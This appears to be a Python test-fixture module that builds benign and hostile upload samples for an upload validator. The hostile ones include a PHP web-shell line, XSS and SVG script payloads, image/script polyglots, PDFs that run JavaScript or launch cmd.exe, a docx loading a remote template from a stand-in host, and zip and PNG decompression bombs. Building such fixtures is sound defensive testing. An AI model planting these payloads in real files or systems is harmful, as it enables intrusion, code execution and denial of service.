"""Files as applicants and attackers send them, made in code. Each maker returns the file's bytes."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.library import samples

PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
GPS_IFD = 0x8825


def image(kind: str, size: tuple[int, int] = (60, 40), **options) -> bytes:
    """A picture with something to see in it."""
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def jpg() -> bytes:
    return image("JPEG")


def png() -> bytes:
    return image("PNG")


def heic() -> bytes:
    from pillow_heif import register_heif_opener  # noqa: PLC0415  only this maker needs it

    register_heif_opener()
    return image("HEIF", (64, 64))


def jpg_with_place() -> bytes:
    """As phones write them: where it was taken, by what, and turned on its side."""
    exif = Image.Exif()
    exif[0x0110] = "SecretPhone 9"
    exif[0x0112] = 6
    exif.get_ifd(GPS_IFD)[1] = "N"
    return image("JPEG", exif=exif)


def transparent_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (50, 50), (255, 0, 0, 60)).save(out, "PNG")
    return out.getvalue()


def png_bomb() -> bytes:
    """Half a billion pixels in a few kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    side = 22_000
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packed = zlib.compress(bytes((side // 8 + 1) * side), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def gif_that_is_script() -> bytes:
    """Begins as a GIF and is a program to a careless interpreter."""
    return image("GIF").replace(b"GIF87a", b"GIF89a", 1) + b"*/=1;alert(1);//"


def bmp_that_is_script() -> bytes:
    return image("BMP") + b"*/;alert(1)//"


def jpg_with_zip() -> bytes:
    return jpg() + samples.archive(evil___jar=b"x")


def pdf_with_javascript() -> bytes:
    """In the document's list of scripts, which run when it is opened."""
    writer = _writer()
    script = _dictionary({"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")})
    scripts = _dictionary({"/Names": ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = _dictionary({"/JavaScript": scripts})
    return _written(writer)


def pdf_that_runs(action: dict) -> bytes:
    """Runs when it is opened."""
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = _dictionary(action)
    return _written(writer)


def pdf_that_launches() -> bytes:
    return pdf_that_runs({"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")})


def pdf_with_script_on_page() -> bytes:
    writer = _writer()
    action = _dictionary({"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")})
    writer.pages[0][NameObject("/AA")] = _dictionary({"/O": action})
    return _written(writer)


def pdf_with_trap_link() -> bytes:
    writer = _writer()
    action = _dictionary({"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})
    note = _dictionary({"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Link"), "/A": action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([note])
    return _written(writer)


def pdf_with_ordinary_link() -> bytes:
    writer = _writer()
    action = _dictionary({"/S": NameObject("/URI"), "/URI": TextStringObject("https://www.example.invalid/")})
    note = _dictionary({"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Link"), "/A": action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([note])
    return _written(writer)


def pdf_without_pages() -> bytes:
    return samples.raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>")


def pdf_in_zip_comment() -> bytes:
    """An archive behind a PDF, with the PDF's end as the archive's comment."""
    out = io.BytesIO(samples.pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("evil.js", "alert(1)")
        archive.comment = b"startxref\n0\n%%EOF\n"
    return out.getvalue()


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(samples.pdf()))


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _dictionary(entries: dict) -> DictionaryObject:
    return DictionaryObject({NameObject(key): value for key, value in entries.items()})


def docx_with_renamed_macros() -> bytes:
    """The macros lie under another name; the list of types still says what they are."""
    types = b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return samples._with(samples.docx(), "[Content_Types].xml", types)


def docx_with_outside_template() -> bytes:
    rels = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="https://evil.example.invalid/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return samples._with(samples.docx(), "word/_rels/settings.xml.rels", rels)


def docx_of_entities_in_utf16() -> bytes:
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'
    return samples._with(samples.docx(), "word/document.xml", xml.encode("utf-16"))


def docx_with_wrong_sum() -> bytes:
    """One flipped byte inside: the archive's directory is whole, the content is not."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(samples.docx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    data = bytearray(out.getvalue())
    place = data.index("建设工程".encode())
    data[place] ^= 0xFF
    return bytes(data)


def zip_with(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), b"x")
    return out.getvalue()


def zip_of_many() -> bytes:
    return zip_with(*(f"{number}.txt" for number in range(10_001)))


def zip_bomb() -> bytes:
    return samples.archive(a___txt=bytes(600 * samples.MEGABYTE))


def locked_zip() -> bytes:
    """The flag that says its content is encrypted, in both of its directories."""
    data = bytearray(zip_with("a.txt"))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def zip_that_lies() -> bytes:
    """Says that its content unpacks to ten bytes."""
    data = bytearray(samples.archive(a___txt=bytes(3 * samples.MEGABYTE)))
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(data)
